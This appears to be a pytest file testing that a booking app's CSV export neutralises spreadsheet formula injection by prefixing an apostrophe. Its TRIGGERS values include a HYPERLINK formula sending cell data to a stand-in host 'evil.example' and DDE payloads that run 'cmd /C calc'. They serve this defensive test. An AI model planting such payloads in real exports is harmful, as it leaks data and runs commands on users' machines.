"""The admin's CSV export opens in a spreadsheet as text, never as a formula (OWASP)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from bookings.services import booking_upsert
from tests.factories import booking_data
from tests.helpers import export

TRIGGERS = {
    "guest_name": '=HYPERLINK("http://evil.example/?x="&A1,"Jordan")',
    "external_ref": "-2+3+cmd|' /C calc'!A0",
    "guest_phone": "+1 619 555 0100",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "guest_email": "jordan@guest.example.com",
}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_neutralised(client, alice, dock, roster, templates, lead):
    booking = booking_upsert(
        data=booking_data(dock, notes=f"{lead}1+1 bring ice"), via="test"
    ).booking
    _, [row] = export(client, alice, booking)
    assert row["notes"] == f"'{lead}1+1 bring ice"


def test_text_a_spreadsheet_would_run_is_led_by_an_apostrophe(
    client, alice, dock, roster, templates
):
    values = {name: value for name, value in TRIGGERS.items() if name != "guest_email"}
    booking = booking_upsert(
        data=booking_data(dock, **values, crew_cost=Decimal("900.00")), via="test"
    ).booking

    _, [row] = export(client, alice, booking)

    for name, value in values.items():
        # The apostrophe is the spreadsheet's hidden text mark: the cell still reads `value`.
        assert row[name] == "'" + value, name
    # Everything else is as it was: plain text, and numbers (a negative net revenue too).
    assert row["guest_email"] == TRIGGERS["guest_email"]
    assert row["dock"] == "Sheraton Hotel Dock"
    assert row["guest_count"] == "4"
    assert row["net_revenue"] == "-360.59"
